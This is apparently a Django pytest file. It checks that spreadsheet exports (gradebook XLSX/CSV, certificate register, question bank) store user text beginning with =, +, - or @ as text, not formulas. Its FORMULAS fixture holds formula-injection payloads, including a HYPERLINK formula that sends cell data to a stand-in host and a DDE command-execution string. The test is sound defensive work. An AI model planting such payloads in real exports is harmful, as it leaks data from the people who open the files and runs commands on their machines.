"""Spreadsheet exports never turn user text into formulas.

A name or question starting with `=`, `+`, `-` or `@` must reach Excel as text:
in XLSX a string cell (never a formula cell), in CSV prefixed with `'` as
OWASP recommends (Excel would evaluate it otherwise).
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from courses.certificates.models import Certificate
from courses.reports import exports as report_exports
from courses.reports.models import Export
from quizzes.imports.export import export_xlsx
from quizzes.models import Question

pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def risky_csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [v for row in rows for v in row if v[:1] in ("=", "+", "-", "@") and v not in ("-",)]


def _export(world, fmt: str) -> bytes:  # type: ignore[no-untyped-def]
    export = report_exports.start_export(
        actor=world.cast.trainer_a,
        kind=Export.Kind.GRADEBOOK,
        format=fmt,
        params={"course": world.course.pk},
    )
    report_exports.build_export(export_id=export.pk)
    export.refresh_from_db()
    with export.file.open("rb") as f:
        return f.read()


def _poison_names(world) -> None:  # type: ignore[no-untyped-def]
    for user, formula in zip(
        (world.cast.learner, world.cast.other_learner), FORMULAS, strict=False
    ):
        User.objects.filter(pk=user.pk).update(full_name=formula)
    Certificate.objects.filter(pk=world.certificate.pk).update(learner_name=FORMULAS[0])


def test_gradebook_xlsx_stores_formula_like_names_as_text(world):
    _poison_names(world)
    assert not formula_cells(_export(world, Export.Format.XLSX))


def test_gradebook_csv_neutralises_formula_like_names(world):
    _poison_names(world)
    assert not risky_csv_cells(_export(world, Export.Format.CSV))


def test_certificate_register_xlsx_stores_formula_like_names_as_text(world, login):
    _poison_names(world)
    response = login(world.cast.admin).get(reverse("frontend:certificate-register-xlsx"))
    assert response.status_code == 200
    assert not formula_cells(response.content)


def test_question_bank_xlsx_stores_formula_like_text_as_text(world):
    from quizzes.services import create_question

    create_question(
        actor=world.cast.trainer_a,
        category=world.single.category,
        type="single",
        text=FORMULAS[0],
        data={
            "choices": [
                {"id": "a", "text": FORMULAS[1], "fraction": 1},
                {"id": "b", "text": "Không", "fraction": 0},
            ]
        },
    )
    assert not formula_cells(export_xlsx(Question.objects.all()))


def test_gradebook_csv_neutralises_a_formula_like_course_title(world):
    from courses.models import Course

    Course.objects.filter(pk=world.course.pk).update(title="=1+1 Khóa học")
    assert not risky_csv_cells(_export(world, Export.Format.CSV))


def test_certificate_register_xlsx_dates_are_date_cells(world, login):
    response = login(world.cast.admin).get(reverse("frontend:certificate-register-xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    issued = [row[8] for row in sheet.iter_rows(min_row=2)]
    assert issued and all(c.is_date and c.number_format == "dd/mm/yyyy" for c in issued)
